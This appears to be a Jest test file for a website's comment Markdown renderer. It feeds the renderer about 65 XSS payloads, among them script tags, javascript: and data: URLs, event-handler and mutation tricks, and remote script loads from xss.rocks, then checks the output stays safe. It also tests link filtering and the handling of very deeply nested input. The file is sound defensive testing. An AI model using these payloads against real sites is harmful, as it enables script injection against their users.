/**
 * @jest-environment jsdom
 */
// The comment Markdown subset against the OWASP XSS filter-evasion cheat sheet and Markdown's own
// ways in (links, autolinks, reference definitions, images).
import { renderToStaticMarkup } from "react-dom/server";
import { COMMENT_ELEMENTS, CommentMarkdown, safeCommentUrl } from "@/lib/comments/markdown";
import { flattenBlockNesting } from "@/lib/comments/nesting";

const ENTITY_JS =
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;";
const HEX_JS =
  "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;";

export const XSS_VECTORS: [name: string, source: string][] = [
  ["script element", "<script>alert(1)</script>"],
  ["script with src, upper case", "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>"],
  ["img javascript: src", `<IMG SRC="javascript:alert('XSS');">`],
  ["img mixed-case scheme", "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ["img decimal entities", `<IMG SRC=${ENTITY_JS}>`],
  ["img hex entities", `<IMG SRC=${HEX_JS}>`],
  ["img embedded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["malformed img quotes", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`],
  ["svg onload", "<svg onload=alert(1)>"],
  ["svg/onload without space", "<svg/onload=alert(1)>"],
  ["svg anchor xlink:href", `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`],
  ["svg style mutation", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  ["math/style mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["math xlink:href", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["comment mutation", `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ["iframe javascript:", `<iframe src="javascript:alert(1)"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["style @import", "<style>@import 'http://xss.rocks/xss.css';</style>"],
  ["inline style url()", `<div style="background:url(javascript:alert(1))">x</div>`],
  ["body onload", "<BODY ONLOAD=alert('XSS')>"],
  ["meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ["link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ["table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ["object data", `<object data="javascript:alert(1)"></object>`],
  ["embed data: svg", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["form action", `<form action="javascript:alert(1)"><button>x</button></form>`],
  ["input autofocus onfocus", "<input onfocus=alert(1) autofocus>"],
  ["details ontoggle", "<details open ontoggle=alert(1)>"],
  ["raw anchor javascript:", `<a href="javascript:alert(1)">x</a>`],
  ["raw anchor with tab entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ["raw anchor onmouseover", `<a href="https://example.com" onmouseover="alert(1)">x</a>`],
  ["markdown link javascript:", "[x](javascript:alert(1))"],
  ["markdown link mixed case", "[x](JaVaScRiPt:alert(1))"],
  ["markdown link leading space", "[x]( javascript:alert(1))"],
  ["markdown link angle destination", "[x](<javascript:alert(1)>)"],
  ["markdown link decimal entity", "[x](&#106;avascript:alert(1))"],
  ["markdown link hex entities", `[x](${HEX_JS})`],
  ["markdown link &colon;", "[x](javascript&colon;alert(1))"],
  ["markdown link tab entity", "[x](jav&#x09;ascript:alert(1))"],
  ["markdown link newline entity", "[x](jav&#x0A;ascript:alert(1))"],
  ["markdown link control char", "[x](\u0001javascript:alert(1))"],
  ["markdown link percent-encoded scheme", "[x](%6A%61vascript:alert(1))"],
  ["markdown link javascript://", "[x](javascript://%0aalert(1))"],
  ["markdown link data:", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["markdown link vbscript:", "[x](vbscript:msgbox(1))"],
  ["markdown link quote breakout", `[x](https://example.com" onclick="alert(1))`],
  ["markdown link title breakout", `[x](https://example.com "a\\" onclick=\\"alert(1)")`],
  ["markdown link with html text", "[<img src=x onerror=alert(1)>](https://example.com)"],
  ["autolink javascript:", "<javascript:alert(1)>"],
  ["autolink data:", "<data:text/html,alert(1)>"],
  ["autolink vbscript:", "<vbscript:msgbox(1)>"],
  ["reference link javascript:", "[x][r]\n\n[r]: javascript:alert(1)"],
  ["reference link data:", "[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD4="],
  ["reference link entity-encoded", "[x][r]\n\n[r]: &#106;avascript:alert(1)"],
  ["image javascript:", "![x](javascript:alert(1))"],
  ["image https", "![x](https://example.com/a.png)"],
  ["image onerror breakout", `![x](x" onerror="alert(1))`],
  ["reference image", "![x][i]\n\n[i]: https://example.com/a.png"],
  ["gfm autolink literal with script", "https://example.com/<script>alert(1)</script>"],
  ["gfm www literal quote breakout", `www.example.com/"onmouseover="alert(1)`],
  ["code span with script", "`<script>alert(1)</script>`"],
  ["html block in list", "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>"],
  ["html inside blockquote", "> <iframe src=javascript:alert(1)></iframe>"],
];

const DANGEROUS_URL = /^\s*(javascript|data|vbscript):/i;
const SAFE_HREF = /^(https?:\/\/|mailto:)/i;
const ALLOWED_TAGS = new Set([...COMMENT_ELEMENTS, "span"]);

function render(source: string): { html: string; root: HTMLElement } {
  const html = renderToStaticMarkup(<CommentMarkdown source={source} />);
  const root = document.createElement("div");
  root.innerHTML = html;
  return { html, root };
}

describe("comment Markdown against XSS vectors", () => {
  it("has at least 40 vectors", () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_VECTORS)("%s", (_name, source) => {
    const { html, root } = render(source);
    expect(html.toLowerCase()).not.toMatch(/<(script|iframe|img|svg|math|style|object|embed|form|input)/);
    for (const el of Array.from(root.querySelectorAll("*"))) {
      expect(ALLOWED_TAGS).toContain(el.tagName.toLowerCase());
      for (const attr of Array.from(el.attributes)) {
        expect(attr.name).not.toMatch(/^on/i);
        expect(["href", "rel"]).toContain(attr.name);
        expect(attr.value).not.toMatch(DANGEROUS_URL);
        if (attr.name === "href") expect(attr.value).toMatch(SAFE_HREF);
      }
    }
  });
});

describe("comment Markdown subset", () => {
  it("renders paragraphs, emphasis, code, quotes and lists", () => {
    const { root } = render("**bold** and *it*\n\n`x = 1`\n\n> quoted\n\n1. one\n2. two\n\n- a\n- b");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelector("em")?.textContent).toBe("it");
    expect(root.querySelector("code")?.textContent).toBe("x = 1");
    expect(root.querySelector("blockquote")?.textContent?.trim()).toBe("quoted");
    expect(root.querySelectorAll("ol > li")).toHaveLength(2);
    expect(root.querySelectorAll("ul > li")).toHaveLength(2);
  });

  it("keeps http, https and mailto links with rel nofollow ugc noopener", () => {
    const { root } = render(
      "[a](https://example.com/x) [b](http://example.org) [c](mailto:desk@example.com)",
    );
    const links = Array.from(root.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/x",
      "http://example.org/",
      "mailto:desk@example.com",
    ]);
    for (const a of links) expect(a.getAttribute("rel")).toBe("nofollow ugc noopener");
    expect(links.every((a) => !a.hasAttribute("target"))).toBe(true);
  });

  it("turns a refused link into its text and drops images and headings' markup", () => {
    const { root } = render("[click me](/relative) ![a cat](https://example.com/cat.png)\n\n# Big");
    expect(root.querySelector("a")).toBeNull();
    expect(root.textContent).toContain("click me");
    expect(root.querySelector("h1")).toBeNull();
    expect(root.textContent).toContain("Big");
  });

  it.each([
    ["https://example.com/a?b=c", "https://example.com/a?b=c"],
    ["HTTPS://EXAMPLE.COM", "https://example.com/"],
    ["mailto:a@example.com", "mailto:a@example.com"],
    ["javascript:alert(1)", undefined],
    ["//example.com", undefined],
    ["/local", undefined],
    ["https://", undefined],
    ["ftp://example.com", undefined],
  ])("safeCommentUrl(%s)", (url, expected) => {
    expect(safeCommentUrl(url)).toBe(expected);
  });
});

describe("deep nesting stored before the limit (old rows, imports)", () => {
  /** The deepest run of quotes and list items, as the reader's browser would nest them. */
  function nesting(el: Element): number {
    const own = ["BLOCKQUOTE", "LI"].includes(el.tagName) ? 1 : 0;
    return own + Math.max(0, ...Array.from(el.children).map(nesting));
  }

  // Past the 5,000-character limit on purpose: these never came through the form.
  it.each([
    ["`>` × 5,000", ">".repeat(5000) + " x", ">".repeat(4992) + " x"],
    ["`> ` × 5,000", "> ".repeat(5000) + "x", "> ".repeat(4992) + "x"],
    ["`- ` × 5,000", "- ".repeat(5000) + "x", "- ".repeat(4992) + "x"],
    ["`* ` × 5,000", "* ".repeat(5000) + "x", "* ".repeat(4992) + "x"],
    ["`1. ` × 5,000", "1. ".repeat(5000) + "x", "1. ".repeat(4992) + "x"],
    ["`1) ` × 5,000", "1) ".repeat(5000) + "x", "1) ".repeat(4992) + "x"],
    ["`> - 1. ` × 5,000", "> - 1. ".repeat(5000) + "x", "1. " + "> - 1. ".repeat(4997) + "x"],
  ])("renders %s flattened to 8 levels, showing the text", (_name, source, text) => {
    const { root } = render(source);
    expect(nesting(root)).toBe(8);
    expect(root.textContent?.replace(/\s+/g, " ").trim()).toBe(text);
  });

  it("flattens nesting built by indentation, line by line", () => {
    const source = Array.from({ length: 400 }, (_, i) => `${" ".repeat(2 * i)}- item ${i}`).join("\n");
    const { root } = render(source);
    expect(nesting(root)).toBeLessThanOrEqual(8);
    expect(root.textContent).toContain("item 399");
  });

  it("leaves nesting within the limit as it was", () => {
    const source = "> ".repeat(8) + "x\n\n" + "- ".repeat(8) + "y";
    expect(flattenBlockNesting(source)).toBe(source);
    expect(nesting(render(source).root)).toBe(8);
  });
});

describe("inline markup past the limits (emphasis, code, link and HTML runs)", () => {
  /** The deepest element nesting inside the rendered body. */
  function depth(el: Element): number {
    return 1 + Math.max(0, ...Array.from(el.children).map(depth));
  }
  const N = 5000;
  const half = (s: string) => s.repeat(Math.floor(N / 2 / s.length));
  // Each took 1–3 s to render before the limits; the parser's time grows with the square of them.
  it.each([
    ["`*_` × 2,500", "*_".repeat(N / 2)],
    ["`*` opening and closing", half("*") + "x" + half("*")],
    ["`_a ` nested", half("_a ") + half(" a_")],
    ["`**` opening and closing", half("**") + "x" + half("**")],
    ["`[` × 5,000", "[".repeat(N)],
    ["`[` opening and closing", half("[") + "x" + half("]")],
    ["backtick and letter", "`a".repeat(N / 2)],
    ["`<` × 5,000", "<".repeat(N)],
    ["`*_[` mix", "*_[".repeat(Math.floor(N / 3))],
  ])("renders %s as plain text, nesting no deeper than a paragraph", (_name, source) => {
    const { root } = render(source);
    // root > p (> br): no emphasis, code or link elements at all.
    expect(depth(root)).toBeLessThanOrEqual(2);
    expect(root.querySelectorAll("em, strong, code, a, del").length).toBe(0);
    expect(root.textContent).toBe(source);
  });

  it("keeps Markdown for bodies within the limits, nested up to the depth allowed", () => {
    const nested = "*a _b **c `d` c** b_ a* [link *e*](https://example.org)";
    const { root } = render(nested);
    expect(root.querySelector("em strong code")?.textContent).toBe("d");
    expect(root.querySelector("a em")?.textContent).toBe("e");
  });

  it("shows a body past the limits paragraph by paragraph, line breaks kept", () => {
    const source = `${"[".repeat(300)}\nsecond line\n\nnext *paragraph*`;
    const { root } = render(source);
    expect(Array.from(root.querySelectorAll("p"), (p) => p.textContent)).toEqual([
      `${"[".repeat(300)}second line`,
      "next *paragraph*",
    ]);
    expect(root.querySelectorAll("br").length).toBe(1);
  });
});
